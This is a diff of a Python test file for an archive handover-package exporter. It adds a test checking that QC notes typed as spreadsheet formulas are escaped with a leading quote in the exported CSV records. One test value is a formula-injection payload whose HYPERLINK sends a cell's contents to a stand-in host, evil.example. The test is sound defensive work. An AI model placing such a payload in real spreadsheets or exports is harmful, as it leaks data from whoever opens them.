@@ -77,13 +77,22 @@ def _records(ctx: Any) -> None:
                          data={"seq": 1}))
 
 
-def _bag(ctx: Any, tmp_path: Path, name: str) -> Path:
+def _bag(ctx: Any, tmp_path: Path, name: str, note: str = "") -> Path:
     add_volume(ctx, CODE, 4, size=(400, 566))
     path = write_catalogue(tmp_path / "目录.xlsx", [[CODE, "张三诉李四", "1998", "永久", 1, 4]],
                            [[CODE, 1, "", "张三", "起诉状", "19980105", "1", ""]])
     indexing.import_catalogue(ctx, actor(ctx, "钱标", "indexer", "uploader"), [path])
     packaging.package(ctx, actor(ctx, "钱标", "indexer", "uploader"), "pdf")
     _records(ctx)
+    if note:  # what a QC inspector typed, on a defect and on an event
+        with ctx.transaction() as s:
+            vol = s.query(Volume).filter_by(archive_code=CODE).one()
+            s.add(Defect(project_id=ctx.project_id, volume_id=vol.id, page_no=1, code="skew",
+                         source="qc", status="noted", found_at=AT,
+                         data={"params": {"page": 1, "note": note}}))
+            s.add(StageEvent(project_id=ctx.project_id, kind=wf.EVENT_BORROW_LIST,
+                             stage=wf.BORROW, volume_id=vol.id, person="=1+1", at=AT,
+                             remarks=note, data={"seq": 2}))
     return handover.build_handover(ctx, tmp_path / name).path
 
 
@@ -140,3 +149,18 @@ def test_the_bag_records_in_english(project: Any, tmp_path: Path, english: Any) 
     assert problems[1][3:7] == ["Missing page", "error", "quality inspection", "verified"]
     assert _csv(bag, "质检记录.csv")[1][5] == f"{CODE}: item 1, item 2, page 4"
     assert _csv(bag, "返工记录.csv")[1][1] == "Scan"
+
+
+def test_the_bag_records_show_typed_formulas_as_text(project: Any, tmp_path: Path) -> None:
+    """A note typed as a formula is text when the client opens the records in Excel or WPS
+    (a leading single quote), and the bag still verifies: its manifest is of the bytes
+    written."""
+    note = '=HYPERLINK("http://evil.example/steal?"&B5,"详情")'
+    bag = _bag(project, tmp_path, "f.bag", note=note)
+    handover.verify_handover(bag)
+    assert "'" + note in [row[7] for row in _csv(bag, "问题记录.csv")[1:]]
+    events = _csv(bag, "过程记录.csv")[1:]
+    assert ["'=1+1", "'" + note] in [row[6:] for row in events]
+    for name in ("问题记录.csv", "质检记录.csv", "返工记录.csv", "过程记录.csv"):
+        for row in _csv(bag, name):
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (name, row)
